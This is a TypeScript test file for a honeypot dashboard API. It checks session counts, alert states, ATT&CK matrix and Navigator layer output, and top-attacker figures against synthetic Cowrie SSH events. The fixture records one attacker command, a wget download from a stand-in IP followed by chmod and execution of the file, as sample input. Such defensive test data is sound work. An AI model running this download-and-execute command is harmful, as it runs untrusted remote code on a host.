import {
  type AttackMatrix,
  type Countries,
  DashboardStats,
  type NavigatorLayer,
  type Session,
  type Timeline,
  type TopAttackers,
} from '@eviltwin/contract'
import pg from 'pg'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'

const NOW = Date.parse('2026-03-22T12:34:30.000Z')
const at = (minutesAgo: number) => new Date(NOW - minutesAgo * 60_000).toISOString()
const HOUR = 60

/** @param minutesAgo of each event. */
function session(name: string, src_ip: string, eventids: readonly string[], minutesAgo: readonly number[]) {
  return eventids.map((eventid, n) => ({
    src_ip,
    session: name,
    sensor: 'cowrie-1',
    eventid,
    timestamp: at(minutesAgo[n] ?? 0),
    ...(eventid === 'cowrie.command.input' && { input: 'wget http://192.0.2.1/x; chmod +x x; ./x' }),
    ...(eventid === 'cowrie.login.success' && { username: 'root', password: 'x' }),
  }))
}

const CAPTURE = [
  // Began 26 h ago and goes on.
  ...session(
    'long',
    '203.0.113.7',
    ['cowrie.session.connect', 'cowrie.login.success', 'cowrie.command.input'],
    [26 * HOUR, 26 * HOUR - 1, 5],
  ),
  // Of the same attacker, over for two days.
  ...session(
    'old',
    '203.0.113.7',
    ['cowrie.session.connect', 'cowrie.session.closed'],
    [50 * HOUR, 49 * HOUR],
  ),
  ...session('short', '203.0.113.8', ['cowrie.session.connect', 'cowrie.session.closed'], [90, 89]),
]

describe.each(inject('postgresServers'))('the overview on $version', (server) => {
  let api: TestPlatform
  let admin: string
  const get = async (path: string) => (await api.call(path, { as: admin })).json()

  beforeAll(async () => {
    api = await startTestPlatform(server, { now: () => NOW })
    admin = await api.login()
    expect(await (await api.send(JSON.stringify(CAPTURE))).json()).toMatchObject({ accepted: CAPTURE.length })
  })
  afterAll(() => api.close())

  test('counts a session that began before the window and goes on', async () => {
    const stats = await get('/dashboard/stats')
    expect(DashboardStats.safeParse(stats).error).toBeUndefined()
    expect(stats).toMatchObject({
      active_sessions: 1,
      total_sessions: 2,
      all_time: { sessions: 3 },
    })
    const { low, high, critical } = stats.sessions_by_level
    expect([low, high + critical]).toEqual([1, 1])
  })

  test('and the list of sessions of the same window has the same ones', async () => {
    const { from } = await get('/dashboard/stats')
    const { items, total } = await get(`/sessions?count=true&from=${from}`)
    expect(total).toBe(2)
    expect(items.map(({ source_ip }: Session) => source_ip)).toEqual(['203.0.113.8', '203.0.113.7'])
    expect((await get('/sessions?count=true&active=true')).total).toBe(1)
  })

  test('lists have exactly what the numbers of the overview count, level by level', async () => {
    const { from, to, sessions_by_level }: DashboardStats = await get('/dashboard/stats')
    const window = `count=true&from=${from}&to=${to}`
    for (const [level, sessions] of Object.entries(sessions_by_level)) {
      expect((await get(`/sessions?${window}&level=${level}`)).total, level).toBe(sessions)
    }
    const { low, medium, high, critical } = sessions_by_level
    expect((await get(`/sessions?${window}&level=low&level=medium`)).total).toBe(low + medium)
    expect((await get(`/sessions?${window}&threat_level=medium`)).total).toBe(medium + high + critical)
    expect((await api.call('/sessions?level=severe', { as: admin })).status).toBe(422)
    const { items } = await get('/attackers?level=low')
    expect(items.map(({ source_ip }: Session) => source_ip)).toEqual(['203.0.113.8'])
  })

  test('lists have exactly what the matrix counts, and its layer for the ATT&CK Navigator says the same', async () => {
    const { from, to, tactics }: AttackMatrix = await get('/dashboard/attack-matrix')
    const techniques = tactics.flatMap((tactic) =>
      tactic.techniques.map((technique) => ({ ...technique, tactic: tactic.name })),
    )
    // Those of counts, of which no event alone is evidence, and those of statements.
    expect(techniques.map(({ id }) => id)).toEqual(expect.arrayContaining(['T1078', 'T1059', 'T1105']))
    for (const { id, sessions } of techniques) {
      expect((await get(`/sessions?count=true&technique=${id}&from=${from}&to=${to}`)).total, id).toBe(
        sessions,
      )
    }
    const answer = await api.call('/dashboard/attack-matrix/navigator-layer', { as: admin })
    expect(answer.headers.get('content-disposition')).toContain('attachment')
    const layer = (await answer.json()) as NavigatorLayer
    expect(layer).toMatchObject({ domain: 'enterprise-attack', versions: { attack: '17', layer: '4.5' } })
    expect(layer.techniques.map(({ techniqueID, score }) => [techniqueID, score])).toEqual(
      techniques.map(({ id, sessions }) => [id, sessions]),
    )
    expect(layer.techniques.find(({ techniqueID }) => techniqueID === 'T1105')?.tactic).toBe(
      'command-and-control',
    )
  })

  test('lists have exactly what the map counts', async () => {
    const { from, to, items, unknown_sessions }: Countries = await get('/dashboard/countries')
    const { total } = await get(`/sessions?count=true&from=${from}&to=${to}`)
    expect(items.reduce((sum, { sessions }) => sum + sessions, unknown_sessions)).toBe(total)
  })

  test('tells how many alerts were raised in the window, by level, and how many are open', async () => {
    await expect
      .poll(async () => (await get('/dashboard/stats')).alerts)
      .toMatchObject({ raised: 1, open: 1 })
    const { high, critical } = (await get('/dashboard/stats')).alerts.raised_by_level
    expect(high + critical).toBe(1)
    const [alert] = (await get('/alerts')).items
    const acknowledged = await api.call(`/alerts/${alert.id}`, {
      as: admin,
      method: 'PATCH',
      body: JSON.stringify({ state: 'acknowledged' }),
    })
    expect(acknowledged.status).toBe(200)
    expect((await get('/dashboard/stats')).alerts).toMatchObject({ raised: 1, open: 0 })
  })

  test('behaviours are answered under their former name, too', async () => {
    const facets = await get('/sessions/facets')
    expect(facets.behaviour.length).toBeGreaterThan(0)
    expect(facets.signal).toEqual(facets.behaviour)
    const { tactics } = await get('/dashboard/attack-matrix?hours=72')
    const techniques = (tactics as AttackMatrix['tactics']).flatMap((tactic) => tactic.techniques)
    expect(techniques.length).toBeGreaterThan(0)
    for (const { behaviours, signals } of techniques) expect(signals).toEqual(behaviours)
  })

  test('counts the sessions of top attackers in the window of their events', async () => {
    const { items } = (await get('/dashboard/top-attackers?hours=24')) as TopAttackers
    expect(items.map(({ source_ip, events, sessions }) => [source_ip, events, sessions])).toEqual([
      ['203.0.113.8', 2, 1],
      ['203.0.113.7', 1, 1],
    ])
    expect(((await get('/dashboard/top-attackers?hours=72')) as TopAttackers).items[0]).toMatchObject({
      source_ip: '203.0.113.7',
      events: 5,
      sessions: 2,
    })
  })

  test('never counts less than nothing, where a session has left a level in whose total it is not counted yet', async () => {
    const client = new pg.Client({ connectionString: api.databaseUrl })
    await client.connect()
    await client.query(
      `INSERT INTO session_rollups SELECT span, date_trunc(span, timestamptz '${at(90)}'), 'cowrie-9', 'critical', -5 FROM (VALUES ('minute'), ('hour')) s (span)`,
    )
    await client.end()
    const { sessions_by_level } = (await get('/dashboard/stats')) as DashboardStats
    expect(sessions_by_level.critical).toBe(0)
    const { buckets } = (await get('/dashboard/timeline')) as Timeline
    expect(Math.min(...buckets.map(({ critical }) => critical))).toBe(0)
  })
})
